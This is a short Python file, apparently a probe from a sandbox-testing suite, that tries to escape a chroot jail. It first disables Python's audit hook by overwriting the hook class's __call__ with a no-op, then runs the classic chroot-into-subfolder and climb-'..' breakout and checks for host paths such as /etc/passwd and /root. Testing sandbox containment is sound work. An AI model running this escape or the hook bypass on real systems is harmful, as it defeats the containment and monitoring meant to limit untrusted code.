# The classic way out of a chroot (the jail is one): chroot into a subfolder while the working
# folder stays outside it, climb with '..' past the old root, chroot('.') there. Then looks for
# host paths the jail hides. os.chroot is refused by the audit hook, so the hook goes first.
# Escaped: a host path the jail hid became visible.
def chroot_escape(**_):
    import os
    def unhook():  # the audit hook is a Python object: its class's __call__ becomes a no-op
        import gc
        gc.unfreeze()
        for obj in gc.get_objects():
            if "Audit" in type(obj).__name__ and callable(obj):
                try:
                    type(obj).__call__ = lambda self, *args: None
                except (TypeError, AttributeError):
                    pass

    unhook()
    probes = ("/etc/hostname", "/etc/passwd", "/proc/self", "/home", "/root", "/var")
    before = {p for p in probes if os.path.lexists(p)}
    try:
        os.mkdir("inner")
        os.chroot("inner")
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
    except OSError as exc:
        return {"escaped": False, "detail": f"chroot refused: {exc}"}
    after = {p for p in probes if os.path.lexists(p)}
    return {"escaped": bool(after - before), "detail": f"visible before {sorted(before)}, after {sorted(after)}"}


LAYERS = ("seccomp", "caps")
NEEDS_ROOT = True
